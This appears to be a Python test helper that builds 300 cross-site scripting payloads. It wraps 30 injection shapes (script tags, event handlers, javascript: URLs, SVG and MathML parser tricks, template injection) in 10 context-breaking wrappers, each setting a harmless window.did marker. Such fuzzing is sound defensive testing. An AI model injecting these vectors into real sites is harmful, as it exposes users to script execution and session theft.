"""Three hundred ways to make a page run what a message says, each of which says so if it works."""

from __future__ import annotations

from collections.abc import Iterator

DID = "window.did=1"
_SHAPES = (
    "<script>{did}</script>",
    "<ScRiPt>{did}</sCrIpT>",
    "<script src=data:text/javascript,{did}></script>",
    "<img src=x onerror={did}>",
    "<img src=x onerror='{did}' ",
    "<img/src/onerror={did}>",
    "<svg onload={did}>",
    "<svg><script>{did}</script></svg>",
    "<svg><animate onbegin={did} attributeName=x dur=1s></svg>",
    "<svg><foreignObject><img src=x onerror={did}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={did}></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>parent.{did}</script>'></iframe>",
    "<iframe src='javascript:parent.{did}'></iframe>",
    "<object data='javascript:{did}'></object>",
    "<embed src='javascript:{did}'>",
    "<a href='javascript:{did}' autofocus onfocus={did}>x</a>",
    "<input autofocus onfocus={did}>",
    "<details open ontoggle={did}><summary>x</summary></details>",
    "<video><source onerror={did}></video>",
    "<body onload={did}>",
    "<marquee onstart={did}>x</marquee>",
    "<style>@import 'data:text/css,';</style><style onload={did}></style>",
    "<link rel=stylesheet href=x onerror={did}>",
    "<base href='javascript:{did}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{did}'>",
    "<template><script>{did}</script></template>",
    "javascript:{did}",
    "${{{did}}}",
    "{{{{constructor.constructor('{did}')()}}}}",
    "');{did};//",
)
_COVERS = (
    "{}",
    '"><!-- -->{}',
    "'>{}<'",
    "</textarea></title></style></script>{}",
    "]]>{}<![CDATA[",
    "\u202e{}\u202c",
    "&lt;b&gt;{}&#60;",
    '\\"{}\\u003c',
    "```html\n{}\n```",
    "<b class='row' role='option' data-index=0>{}",
)


def payloads() -> Iterator[str]:
    """All of them; none is like another."""
    for number, cover in enumerate(_COVERS):
        for shape in _SHAPES:
            yield cover.format(shape.format(did=f"{DID}/*{number}*/"))
